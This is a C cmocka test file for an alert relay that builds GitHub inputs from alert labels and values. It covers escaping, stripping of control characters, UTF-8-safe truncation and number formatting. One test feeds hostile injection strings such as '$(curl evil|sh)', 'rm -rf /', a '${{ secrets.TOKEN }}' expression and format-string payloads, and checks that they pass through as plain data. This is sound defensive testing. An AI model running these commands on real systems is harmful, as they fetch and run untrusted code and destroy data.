/* What text and numbers of an alert become on their way into an input. */
#include "relay/github/inputs.h"

#include "relay/github/utf8.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

/* 0 or what failed; *out: caller frees. */
static int make_of(char **out, const struct alert *alert, const char *value, const char *pattern)
{
    const struct input_spec spec = {"x", value, pattern};
    const struct input_context context = {.alert = alert, .route = "", .key = "", .relay_id = ""};
    struct inputs *in = NULL;

    int r = inputs_compile(&in, &spec, 1, NULL);
    if (r == 0)
        r = inputs_make(out, in, &context, NULL);
    inputs_free(in);
    return r;
}

/* The value of x that an alert with this label gives; caller frees. */
static char *value_of_label(const char *text, const char *template, const char *pattern)
{
    const struct label one[] = {{"l", text}};
    struct alert alert = {.alertname = "", .fingerprint = ""};
    char *json = NULL;

    alert.labels = one;
    alert.n_labels = 1;
    if (make_of(&json, &alert, template, pattern) != 0)
        return NULL;
    json_t *object = json_loads(json, JSON_REJECT_DUPLICATES, NULL);
    assert_non_null(object);
    assert_int_equal(json_object_size(object), 1);
    char *value = strdup(json_string_value(json_object_get(object, "x")));
    json_decref(object);
    free(json);
    return value;
}

static void text_of_an_alert_arrives_as_data(void **state)
{
    static const char *const texts[] = {
        "$(curl evil|sh)",
        "`id`",
        "\"; rm -rf / #",
        "'; rm -rf /",
        "${{ secrets.TOKEN }}",
        "\\",
        "\\\"",
        "\",\"ref\":\"evil",
        "{label:other}",
        "{{",
        "}",
        "%n%s%x",
        "</script>",
        "\xe2\x80\xae\x65vil\xe2\x80\xac",
        "😀",
    };

    (void)state;
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        char *value = value_of_label(texts[i], "{label:l}", NULL);
        assert_string_equal(value, texts[i]);
        free(value);
        assert_null(value_of_label(texts[i], "{label:l}", "[a-z0-9-]{1,64}"));
    }
}

static void control_characters_are_stripped(void **state)
{
    char all[64];
    size_t len = 0;

    (void)state;
    for (int c = 1; c < ' '; c++)
        all[len++] = (char)c;
    memcpy(all + len,
           "\x7f"
           "a"
           "\xc2\x80"
           "b"
           "\xc2\x9f"
           "c"
           "\xc2\xa0",
           11);
    char *value = value_of_label(all, "{label:l}", NULL);
    assert_string_equal(value, "abc\xc2\xa0");
    free(value);
    value = value_of_label("$(a)\necho b\r\n", "{label:l}", NULL);
    assert_string_equal(value, "$(a)echo b");
    free(value);
}

static void a_value_is_cut_between_characters(void **state)
{
    static const struct {
        const char *name, *unit;
        size_t units, want;
    } rows[] = {
        {"exactly full", "a", 256, 256},
        {"one more", "a", 257, 256},
        {"much more", "a", 5000, 256},
        {"two bytes each", "\xc3\xa9", 200, 256},
        {"three bytes each", "\xed\x95\x9c", 100, 255},
        {"four bytes each", "\xf0\x9f\x98\x80", 100, 256},
    };
    static char text[6000];

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        size_t unit = strlen(rows[i].unit);
        for (size_t j = 0; j < rows[i].units; j++)
            memcpy(text + j * unit, rows[i].unit, unit);
        text[rows[i].units * unit] = '\0';
        char *value = value_of_label(text, "{label:l}", NULL);
        if (strlen(value) != rows[i].want || !utf8_is_valid(value))
            fail_msg("%s: %zu bytes", rows[i].name, strlen(value));
        free(value);
    }
    /* After a cut nothing smaller slips in behind it. */
    memset(text, 'a', 255);
    memcpy(text + 255, "\xed\x95\x9c", 4);
    char *value = value_of_label(text, "{label:l}b", NULL);
    assert_int_equal(strlen(value), 255);
    free(value);
    /* What is sent is what is matched. */
    memset(text, 'a', 300);
    memcpy(text + 300, "z", 2);
    assert_null(value_of_label(text, "{label:l}", "a+z"));
}

static void a_number_is_the_shortest_that_reads_back(void **state)
{
    static const struct {
        double number;
        const char *want;
    } rows[] = {
        {0.8, "0.8"},
        {0.1, "0.1"},
        {0.1 + 0.2, "0.30000000000000004"},
        {1.0 / 3, "0.3333333333333333"},
        {1, "1"},
        {-2.5, "-2.5"},
        {100, "100"},
        {1234567890123456, "1234567890123456"},
        {9007199254740993.0, "9007199254740992"},
        {1e16, "1e+16"},
        {1.5e300, "1.5e+300"},
        {0.00001, "0.00001"},
        {0.000001, "1e-06"},
        {5e-324, "5e-324"},
        {1.7976931348623157e308, "1.7976931348623157e+308"},
        {99999.99, "99999.99"},
        {9.999999999999999e22, "1e+23"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        const struct alert_value value = {"A", rows[i].number};
        struct alert alert = {.alertname = "", .fingerprint = ""};
        char *json = NULL, want[64];
        alert.values = &value;
        alert.n_values = 1;
        assert_int_equal(make_of(&json, &alert, "{value:A}", NULL), 0);
        (void)snprintf(want, sizeof(want), "{\"x\":\"%s\"}", rows[i].want);
        assert_string_equal(json, want);
        free(json);
    }
}

static void a_value_without_placeholders_is_constant(void **state)
{
    static const struct {
        const char *name, *value, *constant; /* NULL: it is none */
    } rows[] = {
        {"text", "kospi", "kospi"},         {"nothing", "", ""},
        {"a brace", "a{{b", "a{b"},         {"as it would be sent", "a\tb", "ab"},
        {"a label", "{label:model}", NULL}, {"text and a label", "x-{label:model}", NULL},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        const struct input_spec spec = {"x", rows[i].value, NULL};
        char got[INPUT_VALUE_MAX + 1] = "none";
        struct inputs *in = NULL;
        assert_int_equal(inputs_compile(&in, &spec, 1, NULL), 0);
        bool constant = inputs_constant(in, 0, got);
        inputs_free(in);
        if (constant != (rows[i].constant != NULL) ||
            (constant && strcmp(got, rows[i].constant) != 0))
            fail_msg("%s: %s", rows[i].name, got);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(text_of_an_alert_arrives_as_data),
        cmocka_unit_test(control_characters_are_stripped),
        cmocka_unit_test(a_value_is_cut_between_characters),
        cmocka_unit_test(a_number_is_the_shortest_that_reads_back),
        cmocka_unit_test(a_value_without_placeholders_is_constant),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
